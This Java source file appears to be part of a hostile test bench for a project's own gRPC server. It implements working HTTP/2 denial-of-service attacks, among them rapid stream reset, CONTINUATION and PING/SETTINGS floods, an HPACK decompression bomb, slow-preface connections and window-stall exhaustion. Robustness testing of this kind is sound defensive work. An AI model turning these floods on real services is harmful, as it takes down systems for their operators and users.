package dev.rung.bench.hostile;

import static java.nio.charset.StandardCharsets.US_ASCII;

import dev.rung.bench.hostile.Attack.Door;
import java.io.IOException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

/** What can be done with HTTP/2. */
final class GrpcAttacks {
  private static final String GENERATE = "/rung.v1.Router/Generate";
  private static final String WATCH = "/grpc.health.v1.Health/Watch";
  private static final int CREW = 4;
  private static final int LINES = 3_000;
  private static final int LAST_STREAM = 200_000;
  private static final int STREAMS = 1_000;
  private static final int FRAME = 16_384;
  private static final int MESSAGE = 16 * 1024 * 1024 - 64;

  private GrpcAttacks() {}

  static List<Attack> all() {
    return List.of(
        new Attack("connections that send nothing", Door.GRPC, 1, siege -> crowd(siege, "")),
        new Attack(
            "connections that send their preface a byte a second",
            Door.GRPC,
            1,
            siege -> crowd(siege, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")),
        new Attack(
            "streams begun and reset",
            Door.GRPC,
            CREW,
            siege ->
                streams(
                    siege,
                    true,
                    stream -> Frames.join(Frames.call(stream, GENERATE), Frames.reset(stream)))),
        new Attack(
            "streams that make the server reset them",
            Door.GRPC,
            CREW,
            siege ->
                streams(
                    siege,
                    true,
                    stream ->
                        Frames.join(Frames.call(stream, GENERATE), Frames.window(stream, 0)))),
        new Attack(
            "headers that go on in frames without end", Door.GRPC, CREW, GrpcAttacks::headers),
        new Attack(
            "headers that go on in empty frames", Door.GRPC, CREW, GrpcAttacks::emptyHeaders),
        new Attack(
            "SETTINGS, acknowledgements unread",
            Door.GRPC,
            CREW,
            siege -> flood(siege, false, Frames.settings(3, 100))),
        new Attack(
            "PING, answers unread", Door.GRPC, CREW, siege -> flood(siege, false, Frames.ping(0))),
        new Attack("PRIORITY", Door.GRPC, CREW, siege -> flood(siege, true, Frames.priority(1))),
        new Attack(
            "empty DATA in one stream",
            Door.GRPC,
            CREW,
            siege -> flood(siege, true, Frames.data(1, 0, new byte[0]), Frames.call(1, GENERATE))),
        new Attack(
            "headers that unpack to megabytes",
            Door.GRPC,
            CREW,
            siege -> streams(siege, true, GrpcAttacks::unpacking)),
        new Attack("answers that no window lets out", Door.GRPC, CREW, GrpcAttacks::shutWindows),
        new Attack(
            "streams that never ask", Door.GRPC, CREW, siege -> openStreams(siege, GENERATE)),
        new Attack("streams that watch health", Door.GRPC, CREW, GrpcAttacks::watching),
        new Attack("messages of 16 MiB that never end", Door.GRPC, CREW, GrpcAttacks::halfMessages),
        new Attack(
            "paths of 15 KiB",
            Door.GRPC,
            CREW,
            siege -> streams(siege, true, stream -> Frames.call(stream, "/" + "a".repeat(15_000)))),
        new Attack(
            "calls as fast as they can be sent, answers unread",
            Door.GRPC,
            CREW,
            siege -> streams(siege, false, GrpcAttacks::call)));
  }

  /** Connections that say this, a byte a second each. */
  private static void crowd(Siege siege, String text) throws IOException, InterruptedException {
    List<Line> lines = new ArrayList<>();
    try {
      for (int i = 0; i < LINES && !siege.isOver(); i++) {
        lines.add(siege.line());
      }
      for (int at = 0; !siege.isOver(); at++) {
        Thread.sleep(1_000);
        if (at < text.length()) {
          for (Line line : lines) {
            line.send(new byte[] {(byte) text.charAt(at)});
            siege.sent();
          }
        }
      }
    } finally {
      lines.forEach(Line::close);
    }
  }

  /** Makes what is sent for a stream. */
  @FunctionalInterface
  private interface OfStream {
    byte[] bytes(int stream);
  }

  private static void streams(Siege siege, boolean read, OfStream of) throws IOException {
    try (Line line = siege.line()) {
      line.send(Frames.beginning());
      if (read) {
        line.read();
      }
      for (int stream = 1; stream < LAST_STREAM && !siege.isOver(); stream += 2) {
        line.send(of.bytes(stream));
        siege.sent();
      }
    }
  }

  private static void flood(Siege siege, boolean read, byte[] frame, byte... first)
      throws IOException {
    byte[] many = new byte[frame.length * 100];
    for (int i = 0; i < many.length; i++) {
      many[i] = frame[i % frame.length];
    }
    try (Line line = siege.line()) {
      line.send(Frames.join(Frames.beginning(), first));
      if (read) {
        line.read();
      }
      while (!siege.isOver()) {
        line.send(many);
        siege.sent();
      }
    }
  }

  private static void headers(Siege siege) throws IOException {
    byte[] field = Frames.field("x", "a".repeat(FRAME - 8));
    goOn(siege, field);
  }

  private static void emptyHeaders(Siege siege) throws IOException {
    goOn(siege, new byte[0]);
  }

  private static void goOn(Siege siege, byte[] block) throws IOException {
    try (Line line = siege.line()) {
      line.send(Frames.join(Frames.beginning(), Frames.unendedCall(1, GENERATE)));
      line.read();
      byte[] frame = Frames.continuation(1, block);
      while (!siege.isOver()) {
        line.send(frame);
        siege.sent();
      }
    }
  }

  /** A field of 4,000 bytes that is remembered once and named 12,000 times. */
  private static byte[] unpacking(int stream) {
    byte[] naming = new byte[12_000];
    Arrays.fill(naming, (byte) (0x80 | 62)); // RFC 7541, 6.1: the newest of the table.
    return Frames.call(
        stream, GENERATE, Frames.join(Frames.remembered("x", "a".repeat(3_900)), naming));
  }

  private static byte[] call(int stream) {
    byte[] prompt = "What is 12.5 * 3?".getBytes(US_ASCII);
    byte[] request = Frames.join(new byte[] {10, (byte) prompt.length}, prompt);
    return Frames.join(
        Frames.call(stream, GENERATE),
        Frames.data(stream, Frames.END_STREAM, Frames.message(request)));
  }

  /** So many calls as a connection may make, whose answers are not taken. */
  private static void shutWindows(Siege siege) throws IOException, InterruptedException {
    try (Line line = siege.line()) {
      line.send(Frames.beginning(Frames.INITIAL_WINDOW, 0));
      line.read();
      for (int i = 0; i < STREAMS; i++) {
        line.send(call(1 + 2 * i));
        siege.sent();
      }
      await(siege, line);
    }
  }

  private static void openStreams(Siege siege, String method)
      throws IOException, InterruptedException {
    try (Line line = siege.line()) {
      line.send(Frames.beginning());
      line.read();
      for (int i = 0; i < STREAMS; i++) {
        line.send(Frames.call(1 + 2 * i, method));
        siege.sent();
      }
      await(siege, line);
    }
  }

  private static void watching(Siege siege) throws IOException, InterruptedException {
    try (Line line = siege.line()) {
      line.send(Frames.beginning());
      line.read();
      for (int i = 0; i < STREAMS; i++) {
        int stream = 1 + 2 * i;
        line.send(
            Frames.join(
                Frames.call(stream, WATCH),
                Frames.data(stream, Frames.END_STREAM, Frames.message(new byte[0]))));
        siege.sent();
      }
      await(siege, line);
    }
  }

  /** As much of them as the windows let in, stream after stream. */
  private static void halfMessages(Siege siege) throws IOException, InterruptedException {
    byte[] announced =
        new byte[] {
          0, (byte) (MESSAGE >> 24), (byte) (MESSAGE >> 16), (byte) (MESSAGE >> 8), (byte) MESSAGE
        };
    byte[] piece = new byte[FRAME];
    try (Line line = siege.line()) {
      line.send(Frames.beginning());
      line.read();
      for (int i = 0; i < STREAMS && !siege.isOver(); i++) {
        int stream = 1 + 2 * i;
        line.send(Frames.call(stream, GENERATE));
        line.send(Frames.data(stream, 0, announced));
        for (int bytes = 0; bytes + FRAME < MESSAGE && !siege.isOver(); bytes += FRAME) {
          line.send(Frames.data(stream, 0, piece));
          siege.sent();
        }
      }
      await(siege, line);
    }
  }

  private static void await(Siege siege, Line line) throws IOException, InterruptedException {
    while (!siege.isOver()) {
      if (line.isClosed()) {
        throw new IOException("cut off");
      }
      Thread.sleep(20);
    }
  }
}
